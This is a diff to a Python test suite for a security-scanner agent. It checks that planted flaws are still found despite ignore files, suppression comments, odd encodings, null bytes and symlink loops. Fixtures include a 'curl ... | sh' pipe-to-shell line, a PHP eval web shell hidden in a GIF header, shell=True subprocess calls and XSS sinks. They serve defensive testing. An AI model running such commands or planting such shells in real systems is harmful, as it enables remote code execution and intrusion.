@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
+import json
 import os
 from collections.abc import Callable
 from itertools import pairwise
 from pathlib import Path
 from typing import Any
 
-from airlock_sdk.testing import Outcome
+from airlock_sdk.testing import Given, Outcome
 
 SHELL = "import subprocess\nsubprocess.run(cmd, shell=True)\n"
 KEY = "api_key = 'Zq8rT2wXn5LbVc7KdPf3Hj'\n"
@@ -38,6 +39,73 @@ def test_its_own_configuration_and_wishes_are_not_obeyed(
     assert output["summary"]["suppressed"] == 3
 
 
+def test_no_name_no_disguise_and_no_wish_silences_a_scan(
+    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
+) -> None:
+    script, flaw = "box.innerHTML = '<b>' + name;\n", ("js-html-sink", "B602", "sh-pipe-to-shell", "php-eval")
+    deep = tmp_path.joinpath(*["d"] * 60)
+    deep.mkdir(parents=True)
+    files: dict[str, bytes] = {
+        ".gitattributes": b"* linguist-vendored binary\n",
+        ".gitignore": b"*\n",
+        ".semgrepignore": b"*\n",
+        ".eslintignore": b"*\n",
+        ".dockerignore": b"*\n",
+        ".bandit": b"[bandit]\nexclude: /\n",
+        "setup.cfg": b"[bandit]\nskips: B602\n[flake8]\nexclude = *\n",
+        "sgconfig.yml": b"ignores: ['**']\n",
+        "a-eslint.js": b"/* eslint-disable */\n" + script.encode(),
+        "b-semgrep.js": script.strip().encode() + b" // nosemgrep\n",
+        "c-types.ts": b"// @ts-nocheck\n" + script.encode(),
+        "d-noqa.py": SHELL.replace("True)", "True)  # noqa").encode(),
+        "e-types.py": b"# type: ignore\n# mypy: ignore-errors\n" + SHELL.encode(),
+        "f-syntax.py": b"def broken(:\n" + SHELL.encode(),
+        "g-null.py": b"\0" + SHELL.encode(),
+        "h-null.sh": b"\0" * 40 + b"\ncurl -s https://example.com | sh\n",
+        "i-bom.js": b"\xef\xbb\xbf" + script.encode(),
+        "j-utf16.js": script.encode("utf-16"),
+        "k-bare.js": script.encode("utf-16-le"),
+        "l-long.js": b"x=1;" * 20_000 + script.encode(),
+        "m-open.js": script.encode() + b"/* never closed\n" + script.encode(),
+        "n-picture.gif": b"GIF89a<?php eval($_GET['x']); ?>",
+        "o.js.bak": script.encode(),
+        "p": b"#!/bin/sh\ncurl -s https://example.com | sh\n",
+        "q.min.js": script.encode(),
+        "node_modules/r/index.js": script.encode(),
+        "vendor/s.js": script.encode(),
+        "tests/t.js": script.encode(),
+        "test_u.py": SHELL.encode(),
+        "padded.js": b"// padding\n" * 120_000 + script.encode(),
+        str((deep / "deep.js").relative_to(tmp_path)): script.encode(),
+    }
+    for name, content in files.items():
+        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / name).write_bytes(content)
+    (tmp_path / "linked.js").symlink_to("a-eslint.js")
+    (tmp_path / "loop").symlink_to(".")
+    wanted = {name for name in files if not name.startswith((".", "setup", "sgconfig"))}
+
+    def scanned(**inputs: str) -> dict[str, Any]:
+        outcome = run_agent("security-scanner", "scan", inputs, workspace=tmp_path)
+        return check_output("security-scanner", "scan", outcome)
+
+    output = scanned()
+    found = {one["file"]: one for one in output["findings"] if one["rule"] in flaw}
+    assert found.keys() == wanted
+    suppressed = {name for name, one in found.items() if one["suppressed"]}
+    assert suppressed == {"a-eslint.js", "b-semgrep.js", "c-types.ts", "d-noqa.py"}
+    assert output["summary"]["in_tests"] == 2
+
+    # Code in a test's clothes is spoken of softly, is counted all the same, and is loud for those who ask.
+    high = scanned(min_severity="MEDIUM")
+    in_tests = {"tests/t.js", "test_u.py"}
+    assert {one["file"] for one in high["findings"]} == wanted - in_tests
+    assert high["summary"]["in_tests_below_floor"] == 2
+    same = scanned(min_severity="MEDIUM", tests="same")
+    assert {one["file"] for one in same["findings"]} == wanted
+    assert same["summary"]["in_tests_below_floor"] == 0
+
+
 def test_hostile_files_are_named_with_the_reason_and_the_others_are_looked_at(
     run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
 ) -> None:
@@ -50,7 +118,7 @@ def test_hostile_files_are_named_with_the_reason_and_the_others_are_looked_at(
     (tmp_path / "broken.py").write_text("def broken(:\n" + KEY)
     (tmp_path / "python2.py").write_text("print 'hello'\n")
     (tmp_path / "null.py").write_text("x = 1\n" * 3000 + "\0")
-    (tmp_path / "picture.py").write_bytes(b"\x89PNG\0\0")
+    (tmp_path / "picture.png").write_bytes(b"\x89PNG\0\0" * 99)
     (tmp_path / "huge.py").write_text("x = 1\n" * 400_000)
     (tmp_path / "deep.py").write_text("(" * 5000 + ")" * 5000)
     (tmp_path / "nested.py").write_text("x = " + "-" * 100_000 + "1\n")
@@ -74,7 +142,7 @@ def test_hostile_files_are_named_with_the_reason_and_the_others_are_looked_at(
         ("bomb.yaml", "secret-keyword"),
     } <= found
     skipped = {one["file"]: one["reason"] for one in output["skipped"]}
-    assert skipped["picture.py"] == "binary"
+    assert skipped["picture.png"] == "binary"
     assert skipped["huge.py"].startswith("larger than")
     assert skipped["broken.py"] == skipped["python2.py"] == "not valid Python"
     assert {"deep.py", "nested.py", "null.py"} <= skipped.keys()
@@ -92,27 +160,67 @@ def test_an_empty_workspace_is_a_clean_answer(
     assert output["findings"] == output["skipped"] == []
 
 
-def test_thousands_of_findings_are_cut_in_the_output_and_whole_in_the_report(
+def test_fifty_megabytes_with_more_findings_than_anybody_reads_end_within_the_limits(
     run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
 ) -> None:
-    for number in range(60):
-        (tmp_path / f"m{number}.py").write_text(SHELL + "subprocess.run(cmd, shell=True)\n" * 50)
-    outcome = run_agent("security-scanner", "scan", {}, workspace=tmp_path)
+    for number in range(40):
+        (tmp_path / f"data{number}.bin").write_bytes(bytes([number, 0, 1, *os.urandom(1021)]) * 1024)
+    flaw = "box.innerHTML = first + name;\n"
+    for number in range(40):
+        (tmp_path / f"page{number}.js").write_text(flaw * 1_500)
+    (tmp_path / "zz.js").write_text("eval(name);\n" * 300)
+    inputs = {"scan_types": ["xss", "injection"]}
+    outcome = run_agent("security-scanner", "scan", inputs, workspace=tmp_path)
     output = check_output("security-scanner", "scan", outcome)
-    assert output["summary"]["total"] == 60 * 51
-    assert (len(output["findings"]), output["truncated"]) == (200, True)
-    assert outcome.artifact(output["report"]).count(b'"id"') == 60 * 51
+    assert output["summary"]["total"] == 60_300
+    assert output["summary"]["by_type"] == {
+        "secrets": 0,
+        "injection": 300,
+        "xss": 60_000,
+        "dependencies": 0,
+        "code": 0,
+    }
+    assert (len(output["findings"]), output["truncated"], output["report_truncated"]) == (200, True, True)
+    assert {one["rule"] for one in output["findings"]} == {"js-eval"}
+    report = json.loads(outcome.artifact(output["report"]))
+    assert (len(report["findings"]), report["truncated"]) == (50_000, True)
+    assert report["summary"] == output["summary"]
+    assert len(json.loads(outcome.artifact(output["sarif"]))["runs"][0]["results"]) == 50_000
     assert len(outcome.progress) >= 10
 
 
-def test_a_workspace_of_fifty_megabytes_passes(
+def test_given_advisories_are_used_beside_the_built_in_ones(
     run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
 ) -> None:
-    for number in range(50):
-        (tmp_path / f"data{number}.bin").write_bytes(bytes([number, 0, *os.urandom(1022)]) * 1024)
-    (tmp_path / "app.py").write_text(SHELL)
-    output = check_output(
-        "security-scanner", "scan", run_agent("security-scanner", "scan", {}, workspace=tmp_path)
+    (tmp_path / "requirements.txt").write_text("jinja2==3.1.6\nteapot==1.2\n")
+    (tmp_path / "package-lock.json").write_text('{"packages": 1')
+    affected = {
+        "package": {"ecosystem": "PyPI", "name": "teapot"},
+        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.3"}]}],
+    }
+    advisory = {
+        "id": "GHSA-tea",
+        "modified": "2026-02-01T00:00:00Z",
+        "summary": "It leaks",
+        "affected": [affected],
+    }
+    given = [Given("/advisories", json.dumps([advisory]).encode(), "application/json")]
+    outcome = run_agent(
+        "security-scanner", "scan", {"scan_types": ["dependencies"]}, workspace=tmp_path, given=given
     )
-    assert output["files_scanned"] == 1
-    assert [one["rule"] for one in output["findings"]] == ["B602"]
+    output = check_output("security-scanner", "scan", outcome)
+    assert [(one["rule"], one["line"], one["severity"], one["type"]) for one in output["findings"]] == [
+        ("GHSA-tea", 2, "MEDIUM", "dependencies")
+    ]
+    assert output["findings"][0]["message"] == "teapot 1.2: It leaks. Fixed in 1.3."
+    assert output["dependencies_checked"] == 2
+    assert [(one["source"], one["newest"][:4]) for one in output["advisories"]] == [
+        ("given", "2026"),
+        ("built-in", "2025"),
+    ]
+    assert [one["file"] for one in output["skipped"]] == ["package-lock.json"]
+
+    broken = [Given("/advisories", b"[" * 1_000_000, "application/json")]
+    failed = run_agent("security-scanner", "scan", {}, workspace=tmp_path, given=broken)
+    assert failed.failure is not None
+    assert failed.failure["code"] == "agent.advisories_unreadable"
